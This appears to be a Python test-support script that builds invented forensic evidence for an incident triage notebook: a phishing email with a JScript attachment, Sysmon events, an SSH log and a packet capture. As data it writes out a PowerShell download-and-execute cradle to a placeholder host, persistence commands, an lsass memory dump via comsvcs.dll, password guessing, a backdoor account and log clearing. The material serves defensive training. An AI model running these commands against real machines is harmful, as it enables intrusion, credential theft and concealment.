"""The evidence of the triage notebook: one invented morning on two invented hosts, each file made from the story here.

    python -m tests.support.incident        writes notebooks/evidence/

Addresses and names are those that are kept free for documentation; scripts are text, which fetch from addresses
that cannot answer. The story: ``mara`` opens a delivery note on WS-17; what it fetches looks around, stays, reads the
memory of lsass, tries passwords on the server WEB-3 until one fits, and reports to its sender every minute.
"""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.policy import SMTP
from ipaddress import ip_address

import dpkt

from tests.support import ROOT
from tests.support.captures import Frame, capture, conversation, ethernet, udp

FOLDER = ROOT / "notebooks" / "evidence"
DAY = datetime(2026, 11, 20, tzinfo=UTC)
WORKSTATION, SERVER, RESOLVER, PROXY = "192.0.2.17", "192.0.2.30", "192.0.2.53", "192.0.2.80"
STAGING, CONTROL, SENDER = "203.0.113.66", "198.51.100.23", "203.0.113.45"
FIRST_STAGE = f"IEX (New-Object Net.WebClient).DownloadString('http://{STAGING}/note.txt')"
ENCODED = base64.b64encode(FIRST_STAGE.encode("utf-16-le")).decode()
SCRIPT = f"""// Delivery note 7714
var shell = new ActiveXObject("WScript.Shell");
var note = "powershell -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED}";
shell.Run(note, 0, false);
"""


def at(clock: str) -> datetime:
    """A time of the morning."""
    hours, minutes, seconds = (int(part) for part in clock.split(":"))
    return DAY + timedelta(hours=hours, minutes=minutes, seconds=seconds)


def mail() -> bytes:
    """The delivery note, as the mail server kept it."""
    message = EmailMessage(policy=SMTP)
    message["Return-Path"] = "<bounce@mail.parcel-desk.example>"
    message["Received"] = (
        f"from mail.parcel-desk.example (unknown [{SENDER}]) by mx.example.org with ESMTP id 7714; "
        "Fri, 20 Nov 2026 08:58:12 +0000"
    )
    message["Authentication-Results"] = (
        "mx.example.org; spf=fail smtp.mailfrom=mail.parcel-desk.example; dkim=none; "
        "dmarc=fail header.from=parcel-desk.example"
    )
    message["From"] = '"Parcel Desk" <notice@parcel-desk.example>'
    message["Reply-To"] = "parcel.desk.7714@mailbox.example"
    message["To"] = "mara@example.org"
    message["Subject"] = "Final notice: your parcel will be returned today"
    message["Date"] = "Fri, 20 Nov 2026 08:58:09 +0000"
    message["Message-ID"] = "<7714@mail.parcel-desk.example>"
    message.set_content(
        "Dear customer,\r\n\r\nyour parcel could not be delivered and will be returned today. Open the attached\r\n"
        "delivery note immediately and confirm your address, or verify your account at\r\n"
        f"http://{STAGING}/track?id=7714 within 2 hours.\r\n"
    )
    message.add_attachment(SCRIPT.encode(), maintype="application", subtype="octet-stream", filename="delivery_note.js")
    message.set_boundary("note-7714")
    return message.as_bytes()


WINDOWS = r"C:\Windows\System32"
POWERSHELL = rf"{WINDOWS}\WindowsPowerShell\v1.0\powershell.exe"
STARTS = [  # clock, process, parent's process, program, command
    ("08:31:02", 2104, 820, r"C:\Windows\explorer.exe", r"C:\Windows\explorer.exe"),
    ("08:33:40", 3310, 2104, r"C:\Program Files\Mail\mail.exe", "mail.exe"),
    ("08:47:15", 3402, 820, rf"{WINDOWS}\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    ("09:06:40", 4120, 2104, rf"{WINDOWS}\wscript.exe", r'wscript.exe "C:\Users\mara\Downloads\delivery_note.js"'),
    (
        "09:06:41",
        4188,
        4120,
        POWERSHELL,
        f"powershell -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED}",
    ),
    ("09:08:05", 4312, 4188, rf"{WINDOWS}\whoami.exe", "whoami /all"),
    ("09:08:19", 4340, 4188, rf"{WINDOWS}\net.exe", 'net group "Domain Admins" /domain'),
    ("09:08:44", 4366, 4188, rf"{WINDOWS}\nltest.exe", "nltest /domain_trusts"),
    (
        "09:12:30",
        4410,
        4188,
        rf"{WINDOWS}\schtasks.exe",
        r"schtasks /create /tn DeliveryCheck /sc minute /mo 30 /tr C:\Users\mara\AppData\Roaming\note.exe",
    ),
    (
        "09:20:11",
        4502,
        4188,
        rf"{WINDOWS}\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 644 C:\Users\mara\AppData\Local\Temp\l.dmp full",
    ),
    ("09:31:00", 4660, 4188, rf"{WINDOWS}\OpenSSH\ssh.exe", f"ssh deploy@{SERVER}"),
    ("10:02:48", 4890, 4188, rf"{WINDOWS}\wevtutil.exe", "wevtutil cl Security"),
]
OTHERS = [  # clock, event, fields
    (
        "09:06:43",
        3,
        {"Image": POWERSHELL, "ProcessId": 4188, "SourceIp": WORKSTATION, "DestinationIp": STAGING,
         "DestinationPort": 80, "Protocol": "tcp", "Initiated": "true"},
    ),
    (
        "09:06:58",
        11,
        {"Image": POWERSHELL, "ProcessId": 4188, "TargetFilename": r"C:\Users\mara\AppData\Roaming\note.exe"},
    ),
    (
        "09:12:02",
        13,
        {"EventType": "SetValue", "Image": POWERSHELL, "ProcessId": 4188,
         "TargetObject": r"HKU\S-1-5-21-1-2-3-1107\Software\Microsoft\Windows\CurrentVersion\Run\DeliveryCheck",
         "Details": r"C:\Users\mara\AppData\Roaming\note.exe"},
    ),
    (
        "09:20:12",
        10,
        {"SourceImage": rf"{WINDOWS}\rundll32.exe", "SourceProcessId": 4502, "TargetProcessId": 644,
         "TargetImage": rf"{WINDOWS}\lsass.exe", "GrantedAccess": "0x1fffff",
         "CallTrace": r"C:\Windows\System32\ntdll.dll+9d4c4|C:\Windows\System32\comsvcs.dll+23f5b"},
    ),
]  # fmt: skip


def events() -> bytes:
    """The workstation's events, one JSON object a line, in the order in which they happened."""
    images = {process: image for _, process, _, image, _ in STARTS} | {820: rf"{WINDOWS}\services.exe"}
    made: list[tuple[str, str, int, dict[str, object]]] = [
        (
            clock,
            "Microsoft-Windows-Sysmon/Operational",
            1,
            {"Image": image, "ProcessId": process, "ParentProcessId": parent, "ParentImage": images[parent],
             "CommandLine": command, "User": r"EXAMPLE\mara"},
        )
        for clock, process, parent, image, command in STARTS
    ]  # fmt: skip
    made += [
        (clock, "Microsoft-Windows-Sysmon/Operational", event_id, fields | {"User": r"EXAMPLE\mara"})
        for clock, event_id, fields in OTHERS
    ]
    made.append(("10:02:49", "Security", 1102, {"SubjectUserName": "mara", "SubjectDomainName": "EXAMPLE"}))
    lines = [
        json.dumps(
            {
                "TimeCreated": at(clock).isoformat().replace("+00:00", "Z"),
                "Hostname": "WS-17",
                "Channel": channel,
                "EventID": event_id,
                "EventRecordID": 90_000 + number,
            }
            | fields
        )
        for number, (clock, channel, event_id, fields) in enumerate(sorted(made, key=lambda entry: entry[0]))
    ]
    return ("\n".join(lines) + "\n").encode()


def logins() -> bytes:
    """The server's auth.log: a workstation that tries passwords among people who work."""
    said: list[tuple[datetime, str]] = [
        (at("08:12:40"), "sshd[811]: Accepted publickey for jon from 192.0.2.21 port 40022 ssh2"),
        (at("08:55:03"), "sshd[840]: Failed password for jon from 192.0.2.21 port 40110 ssh2"),
        (at("08:55:09"), "sshd[840]: Accepted password for jon from 192.0.2.21 port 40110 ssh2"),
        (at("09:15:31"), "CRON[902]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
    ]
    accounts = ("root", "backup", "deploy", "invalid user oracle")
    for attempt in range(48):
        account = accounts[attempt % len(accounts)]
        said.append(
            (
                at("09:31:04") + timedelta(seconds=9 * attempt),
                f"sshd[{1000 + attempt}]: Failed password for {account} from {WORKSTATION} port {51000 + attempt} ssh2",
            )
        )
    said += [
        (at("09:38:22"), f"sshd[1060]: Accepted password for deploy from {WORKSTATION} port 51060 ssh2"),
        (
            at("09:39:10"),
            "sudo:   deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/useradd svcmon",
        ),
        (
            at("09:39:10"),
            "useradd[1071]: new user: name=svcmon, UID=107, GID=107, home=/home/svcmon, shell=/bin/sh",
        ),
        (at("10:10:00"), "sshd[1102]: Accepted publickey for jon from 192.0.2.21 port 40301 ssh2"),
    ]
    return "".join(f"{time:%b %d %H:%M:%S} web-3 {text}\n" for time, text in sorted(said)).encode()


def packets() -> bytes:
    """What left the workstation, from its own port of the switch."""
    frames: list[Frame] = []
    ordinary = ["intranet.example.org", "mail.example.org", "wiki.example.org", "time.example.org"]
    for number, name in enumerate(ordinary * 3):  # people look up names at no fixed pace
        frames += _lookup(name, PROXY, at("08:40:00") + timedelta(seconds=31 * number * number))
    frames += _lookup("cdn.parcel-desk.example", STAGING, at("09:06:42"))
    request = f"GET /note.txt HTTP/1.1\r\nHost: {STAGING}\r\nConnection: Keep-Alive\r\n\r\n".encode()
    note = b"# nothing to run here\r\n"
    reply = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%b" % (len(note), note)
    frames += _talk([(">", request), ("<", reply)], STAGING, 80, at("09:06:43"), 49_800)
    frames += _lookup("status.parcel-desk.example", CONTROL, at("09:07:30"))
    for number in range(40):
        began = at("09:07:31") + timedelta(seconds=60 * number)
        turns = [(">", _hello("status.parcel-desk.example")), ("<", b"\x15\x03\x03\x00\x02\x01\x00")]
        frames += _talk(turns, CONTROL, 443, began, 49_900 + number)
    return capture(sorted(frames))


def _talk(turns: list[tuple[str, bytes]], server: str, port: int, began: datetime, own_port: int) -> list[Frame]:
    return conversation(turns, client=WORKSTATION, server=server, ports=(own_port, port), at=began.timestamp())


def _lookup(name: str, address: str, asked_at: datetime) -> list[Frame]:
    """A question to the resolver and its answer."""
    question = dpkt.dns.DNS(id=7, qd=[dpkt.dns.DNS.Q(name=name, type=1)])
    found = [dpkt.dns.DNS.RR(name=name, type=1, cls=1, ttl=60, ip=ip_address(address).packed)]
    answer = dpkt.dns.DNS(id=7, op=0x8180, qd=question.qd, an=found)
    began = asked_at.timestamp()
    return [
        (began, ethernet(udp(WORKSTATION, RESOLVER, (40_000, 53), bytes(question)))),
        (began + 0.02, ethernet(udp(RESOLVER, WORKSTATION, (53, 40_000), bytes(answer)))),
    ]


def _hello(name: str) -> bytes:
    """A TLS client's first message that asks for ``name``."""
    host = name.encode()
    entry = b"\x00" + len(host).to_bytes(2, "big") + host
    listed = len(entry).to_bytes(2, "big") + entry
    extension = b"\x00\x00" + len(listed).to_bytes(2, "big") + listed
    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += len(extension).to_bytes(2, "big") + extension
    shake = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(shake).to_bytes(2, "big") + shake


EVIDENCE = {
    "delivery.eml": mail,
    "WS-17.jsonl": events,
    "web-3_auth.log": logins,
    "WS-17.pcap": packets,
}
"""Each file of ``FOLDER`` and what makes it. The fifth kind of evidence, the script, is in the mail."""


def main() -> None:
    """Write every file again."""
    FOLDER.mkdir(exist_ok=True)
    for name, make in EVIDENCE.items():
        (FOLDER / name).write_bytes(make())


if __name__ == "__main__":
    main()
